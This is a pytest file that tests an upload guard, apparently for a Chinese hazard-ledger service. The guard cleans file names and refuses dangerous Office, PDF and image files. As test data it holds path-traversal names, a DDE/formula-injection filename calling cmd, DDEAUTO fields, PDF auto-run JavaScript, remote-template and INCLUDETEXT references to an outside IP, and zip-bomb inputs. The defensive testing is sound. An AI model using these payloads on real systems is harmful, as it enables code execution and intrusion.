"""What may be uploaded, and under what name it is kept."""

import io
import zipfile
import zlib
from contextlib import nullcontext
from pathlib import Path
from xml.sax.saxutils import escape

import docx
import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from analysis.errors import SourceError
from analysis.intake.guard import archives, names
from analysis.intake.guard.files import inspect, inspect_evidence
from analysis.intake.guard.names import LONGEST_NAME, SUFFIXES, safe_name
from analysis.intake.guard.pdf import MOST_PACKED


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("隐患台账（10月）.xlsx", "隐患台账(10月).xlsx"),
        ("../../../etc/cron.d/x.csv", "x.csv"),
        ("C:\\Users\\张三\\台账.XLS", "台账.xls"),
        ("..\\..\\x.docx", "x.docx"),
        (".hidden.xlsx", "hidden.xlsx"),
        ("~$台账.xlsx", "台账.xlsx"),
        ("a\x00b\nc.csv", "a_b_c.csv"),
        ("<script>alert(1)</script>.csv", "script.csv"),
        ("=cmd|' /C calc'!A0.xlsx", "C_calc_A0.xlsx"),
        ("'; DROP TABLE hazard; --.csv", "DROP_TABLE_hazard_--.csv"),
        (".xlsx", "台账.xlsx"),
        ("长" * 300 + ".xlsx", "长" * LONGEST_NAME + ".xlsx"),
        ("report.csv/../../x.xlsx", "x.xlsx"),
    ],
)
def test_a_name_is_made_harmless(name: str, kept: str) -> None:
    assert safe_name(name) == kept


@pytest.mark.parametrize("name", ["台账.xlsm", "台账.exe", "台账", "台账.xlsx.mht", "方案.doc", ""])
def test_other_kinds_are_refused(name: str) -> None:
    with pytest.raises(SourceError, match="只收"):
        safe_name(name)


@given(st.text(max_size=400), st.sampled_from(SUFFIXES))
def test_no_name_leaves_its_folder(stem: str, suffix: str) -> None:
    kept = safe_name(stem + suffix)
    assert Path(kept).name == kept
    assert not kept.startswith((".", "~"))
    assert kept.isprintable()
    assert len(kept) <= LONGEST_NAME + len(suffix)


def workbook() -> bytes:
    out = io.BytesIO()
    openpyxl.Workbook().save(out)
    return out.getvalue()


def with_parts(**parts: bytes) -> bytes:
    """A workbook with more parts than it should have; «__» in a name stands for a slash."""
    out = io.BytesIO(workbook())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return out.getvalue()


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
LATE_DOCTYPE = with_parts(
    word__document_dot_xml=b"<!--" + b" " * ((1 << 20) - 9) + b"--><!DOCTYPE x []>"
)
WIDE_DOCTYPE = with_parts(word__document_dot_xml="\ufeff<!DOCTYPE x []>".encode("utf-16-le"))
DDE_LINK = with_parts(
    xl__externalLinks__externalLink1_dot_xml=b'<link><ddeLink ddeService="cmd"/></link>'
)
DOCTYPE = with_parts(word__document_dot_xml=b"<!DOCTYPE x [<!ENTITY a 'b'>]>")


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("台账.xlsx", b"", "空的"),
        ("台账.xlsx", with_parts(xl__vbaProject_dot_bin=b"x"), "有宏"),
        ("台账.xlsx", with_parts(xl__macrosheets__sheet1_dot_xml=b"x"), "有宏"),
        ("台账.xlsx", with_parts(xl__embeddings__oleObject1_dot_bin=b"x"), "有宏或嵌入"),
        ("台账.docx", DOCTYPE, "外部定义"),
        ("台账.docx", LATE_DOCTYPE, "外部定义"),
        ("台账.docx", WIDE_DOCTYPE, "外部定义"),
        ("台账.xlsx", DDE_LINK, "DDE 链接"),
        ("台账.xlsx", b"PK\x03\x04" + b"nothing" * 100, "已损坏"),
        ("台账.xlsx", b"MZ\x90\x00 a program", "不是完好的 Excel"),
        ("台账.docx", b"%PDF-1.7", "不是能读的文件类型"),
        ("方案.txt", b"%PDF-1.7", "不是能读的文件类型"),
        ("方案.html", b"{\\rtf1 x}", "不是能读的文件类型"),
        ("方案.pdf", b"PK\x03\x04", "不是能读的文件类型"),
        ("方案.pdf", b"MZ\x90\x00 a program", "不是能读的文件类型"),
        ("方案.pdf", b"%PDF-1.7 /OpenAction << /S /JavaScript >>", "会自动运行的程序"),
        ("台账.xls", OLE + "_VBA_PROJECT".encode("utf-16-le"), "有宏"),
        ("台账.xls", OLE + "EncryptedPackage".encode("utf-16-le"), "密码"),
    ],
)  # fmt: skip
def test_a_file_that_is_not_what_it_should_be_is_refused(
    tmp_path: Path, name: str, content: bytes, said: str
) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(SourceError, match=said):
        inspect(path)


def test_a_workbook_is_let_through(tmp_path: Path) -> None:
    path = tmp_path / "台账.xlsx"
    path.write_bytes(with_parts(xl__printerSettings__printerSettings1_dot_bin=b"x"))
    inspect(path)


def test_a_bomb_is_refused_while_it_unpacks(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(archives, "LARGEST_UNPACKED", 5 << 20)
    path = tmp_path / "台账.xlsx"
    path.write_bytes(with_parts(xl__worksheets__sheet9_dot_xml=b"0" * (20 << 20)))
    assert path.stat().st_size < 100_000
    with pytest.raises(SourceError, match="展开后大得不正常"):
        inspect(path)


def test_what_a_bomb_says_of_its_size_is_not_believed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(archives, "LARGEST_UNPACKED", 5 << 20)
    size = 20 << 20
    content = with_parts(xl__worksheets__sheet9_dot_xml=b"0" * size)
    said = size.to_bytes(4, "little")
    assert content.count(said) >= 2
    path = tmp_path / "台账.xlsx"
    path.write_bytes(content.replace(said, (10).to_bytes(4, "little")))
    with pytest.raises(SourceError, match=r"已损坏|展开后大得不正常"):
        inspect(path)


def test_too_many_parts_and_too_large_a_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "台账.xlsx"
    path.write_bytes(workbook())
    monkeypatch.setattr(archives, "MOST_PARTS", 3)
    with pytest.raises(SourceError, match="部件太多"):
        inspect(path)
    monkeypatch.setattr(names, "LARGEST", 100)
    with pytest.raises(SourceError, match="文件太大"):
        inspect(path)


def document(**parts: bytes) -> bytes:
    """A Word document, with parts of its zip changed or added."""
    out, made = io.BytesIO(), io.BytesIO()
    docx.Document().save(made)
    with zipfile.ZipFile(made) as source:
        content = {name: source.read(name) for name in source.namelist()}
    content |= parts
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, body in content.items():
            target.writestr(name, body)
    return out.getvalue()


def picture(kind: str, size: tuple[int, int] = (40, 30), mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, kind)
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("验收单.DOCX", document()), ("照片.png", picture("PNG")), ("照片.jpeg", picture("JPEG")),
        ("验收单.pdf", b"%PDF-1.7"),
    ],
)  # fmt: skip
def test_evidence_that_is_what_it_says_is_kept(name: str, body: bytes) -> None:
    assert inspect_evidence(name, body) == Path(name).suffix.lower()


def packed(objects: bytes) -> bytes:
    """A PDF with some of its objects in a packed stream."""
    stream = zlib.compress(objects)
    head = b"%%PDF-1.7\n1 0 obj << /Type /ObjStm /Filter /FlateDecode /Length %d >>" % len(stream)
    return head + b"\nstream\r\n" + stream + b"\nendstream endobj"


def macros() -> bytes:
    """A document with macros under the name of one without."""
    with zipfile.ZipFile(io.BytesIO(document())) as packed:
        types = packed.read("[Content_Types].xml")
    kind = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    changed = types.replace(archives._DOCUMENT, kind)
    assert changed != types
    return document(**{"[Content_Types].xml": changed, "word/vbaProject.bin": b"x"})


@pytest.mark.parametrize(
    ("name", "body", "said"),
    [
        ("验收单.docx", b"PK\x03\x04junk vbaProject.bin", "和它的类型不符"),
        ("验收单.docx", workbook(), "和它的类型不符"),
        ("验收单.docx", macros(), "和它的类型不符"),
        ("验收单.docx", document(**{"word/vbaProject.bin": b"x"}), "有宏或嵌入的程序"),
        ("验收单.docx", document(**{"word/embeddings/a.exe": b"x"}), "有宏或嵌入的程序"),
        ("照片.png", picture("JPEG"), "和它的类型不符"),
        ("照片.png", b"\x89PNG\r\n\x1a\n", "不是完好的"),
        ("照片.png", picture("PNG")[:60], "不是完好的"),
        ("照片.jpg", b"\xff\xd8\xff<script>", "不是完好的"),
        ("照片.png", picture("PNG", (9000, 9000), "1"), "9000×9000 像素，没有解开"),
        ("验收单.pdf", b"%PDF-1.7 /OpenAction << /S /JavaScript /JS (x) >>", "会自动运行的程序"),
        ("验收单.pdf", b"%PDF-1.7 /Launch", "会自动运行的程序"),
        ("验收单.pdf", b"%PDF-1.7 /S /J#61vaScript", "会自动运行的程序"),
        ("验收单.pdf", b"%PDF-1.7 /S /GoToR /F (//203.0.113.7/a.pdf)", "会自动运行的程序"),
        ("验收单.pdf", packed(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "会自动运行的程序"),
        ("验收单.html", b"<html>", "只收"),
        ("验收单.png", b"\x89PNG\r\n\x1a\n" + bytes(21 << 20), "文件太大"),
    ],
    ids=range(17),
)  # fmt: skip
def test_evidence_that_is_not_what_it_says_is_refused(name: str, body: bytes, said: str) -> None:
    with pytest.raises(SourceError, match=said):
        inspect_evidence(name, body)


def related(kind: str, target: str, mode: str = "External") -> bytes:
    """A document whose settings refer to something."""
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )
    return document(**{"word/_rels/settings.xml.rels": relations.encode()})


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "http://203.0.113.7/a.dotm"),
        ("attachedTemplate", r"\\203.0.113.7\share\a.dotm"),
        ("attachedTemplate", "file://203.0.113.7/share/a.dotm"),
        ("attachedTemplate", " HTTPS://203.0.113.7/a.dotm"),
        ("image", "http://203.0.113.7/seen.png"),
        ("oleObject", "mhtml:http://203.0.113.7/a.html!x"),
        ("frame", "//203.0.113.7/a.html"),
        ("mailMergeSource", "http://203.0.113.7/people.csv"),
    ],
)
def test_evidence_that_would_fetch_something_when_it_is_opened_is_refused(
    kind: str, target: str
) -> None:
    with pytest.raises(SourceError, match="引用了别的机器上的模板、图片或对象"):
        inspect_evidence("验收单.docx", related(kind, target))


def test_a_scan_is_no_program_by_chance_and_streams_that_never_end_are_not_read_again_and_again(
    tmp_path: Path,
) -> None:
    path = tmp_path / "方案.pdf"
    path.write_bytes(b"%PDF-1.7 stream\n" + b"\xff/JS \x00" * 1000 + b"endstream")
    inspect(path)
    path.write_bytes(b"%PDF-1.7 " + b"/ObjStm stream\n" * 1_000_000)
    with pytest.raises(SourceError, match="内部结构不正常"):
        inspect(path)


@pytest.mark.parametrize("name", ["instr", "split"])
def test_a_field_that_starts_a_program_is_refused_in_a_ledger_too(
    tmp_path: Path, name: str
) -> None:
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    pieces = {
        "instr": '<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"/>',
        "split": "<w:r><w:instrText>DDE</w:instrText></w:r>"
        "<w:r><w:instrText>AUTO c</w:instrText></w:r>",
    }
    body = f"<w:document {w}><w:body><w:p>{pieces[name]}</w:p></w:body></w:document>"
    path = tmp_path / "台账.docx"
    path.write_bytes(document(**{"word/document.xml": body.encode()}))
    with pytest.raises(SourceError, match="DDE 域"):
        inspect(path)


def fielded(instruction: str) -> bytes:
    """A document with a field, written in two pieces."""
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    half = len(instruction) // 2
    runs = "".join(
        f"<w:r><w:instrText>{escape(piece)}</w:instrText></w:r>"
        for piece in (instruction[:half], instruction[half:])
    )
    body = f"<w:document {w}><w:body><w:p>{runs}</w:p></w:body></w:document>"
    return document(**{"word/document.xml": body.encode()})


@pytest.mark.parametrize(
    ("instruction", "in_a_ledger"),
    [
        (' INCLUDETEXT "http://203.0.113.7/a.docx" ', True),
        (r' LINK Excel.Sheet.8 "\\\\203.0.113.7\\share\\a.xls" R1C1 \a ', True),
        (' INCLUDEPICTURE "http://203.0.113.7/seen.png" \\d ', False),
    ],
)
def test_a_field_that_fetches_something_when_it_is_opened_is_refused(
    tmp_path: Path, instruction: str, in_a_ledger: bool
) -> None:
    with pytest.raises(SourceError, match="引用了别的机器上的模板、图片或对象"):
        inspect_evidence("验收单.docx", fielded(instruction))
    path = tmp_path / "台账.docx"
    path.write_bytes(fielded(instruction))
    with pytest.raises(SourceError) if in_a_ledger else nullcontext():
        inspect(path)


@pytest.mark.parametrize(
    "instruction",
    [
        ' HYPERLINK "http://203.0.113.7/" ',
        ' TOC \\o "1-3" ',
        ' INCLUDETEXT "附件1.docx" ',
        " PAGE ",
    ],
)
def test_a_field_that_fetches_nothing_is_no_reason_to_refuse(instruction: str) -> None:
    inspect_evidence("验收单.docx", fielded(instruction))


def test_a_ledger_may_show_a_picture_of_a_web_page_but_has_no_template_there(
    tmp_path: Path,
) -> None:
    path = tmp_path / "台账.docx"
    path.write_bytes(related("image", "http://203.0.113.7/seen.png"))
    inspect(path)
    path.write_bytes(related("attachedTemplate", "http://203.0.113.7/a.dotm"))
    with pytest.raises(SourceError, match="引用了别的机器上的模板"):
        inspect(path)


@pytest.mark.parametrize(
    ("kind", "target", "mode"),
    [
        ("hyperlink", "http://203.0.113.7/", "External"),
        ("attachedTemplate", "file:///C:/Users/某/Templates/Normal.dotm", "External"),
        ("attachedTemplate", "Normal.dotm", "External"),
        ("image", "media/image1.png", "Internal"),
    ],
)
def test_a_link_and_what_lies_in_the_file_or_on_the_own_disk_are_kept(
    kind: str, target: str, mode: str
) -> None:
    assert inspect_evidence("验收单.docx", related(kind, target, mode)) == ".docx"


def fields_saying(words: str) -> bytes:
    """A Word document one of whose fields says so."""
    main = f'<w:document xmlns:w="w"><w:instrText>{words}</w:instrText></w:document>'
    return document(**{"word/header1.xml": main.encode()})


@pytest.mark.parametrize(
    ("name", "body"),
    [
        # each of these took a web server's only interpreter ten seconds and more
        ("验收单.pdf", b"%PDF-1.7 " + b"/ObjStm " * (MOST_PACKED + 1)),
        ("验收单.docx", fields_saying("LINK " + "ab " * 700_000)),
        ("验收单.docx", document(**{"word/header1.xml": b"<a>" + b"<fldSimple/>" * 2_000_001})),
    ],
    ids=["packed", "words", "tags"],
)
def test_what_is_made_to_keep_its_reader_busy_is_refused_before_it_does(
    name: str, body: bytes
) -> None:
    with pytest.raises(SourceError, match="内部结构不正常"):
        inspect_evidence(name, body)


def test_packed_objects_are_found_where_they_begin_behind_their_name() -> None:
    begun = (
        b"%PDF-1.7 1 0 obj << /Filter /FlateDecode /Type /ObjStm >> " + b" " * 360 + b"stream\r\n"
    )
    runs = zlib.compress(b"/JavaScript ") + b"\nendstream"
    with pytest.raises(SourceError, match="自动运行"):
        inspect_evidence("验收单.pdf", begun + runs)
